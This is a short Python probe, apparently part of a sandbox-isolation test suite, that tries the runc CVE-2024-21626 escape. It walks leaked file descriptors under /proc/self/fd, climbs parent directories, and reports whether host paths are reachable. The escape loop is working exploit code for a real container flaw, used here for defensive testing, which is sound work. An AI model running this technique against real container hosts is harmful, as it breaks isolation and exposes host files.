"""Attack: CVE-2024-21626 by its other door: /proc/self/cwd or a working directory outside the root
Source: https://github.com/opencontainers/runc/security/advisories/GHSA-xr7r-f8xq-vfvv
Profiles: basic docker
Weakening: descriptor
"""

import os
from pathlib import Path

from probe import FACTS, held, worked

for entry in Path("/proc/self/fd").iterdir():
    try:
        os.chdir(entry)
    except OSError:
        continue
    for _ in range(20):
        if Path("sandboxes").is_dir() or Path(FACTS["state"].lstrip("/")).is_dir():
            worked(f"{entry} leads to the host's tree")
        os.chdir("..")
held("no working directory leads out")
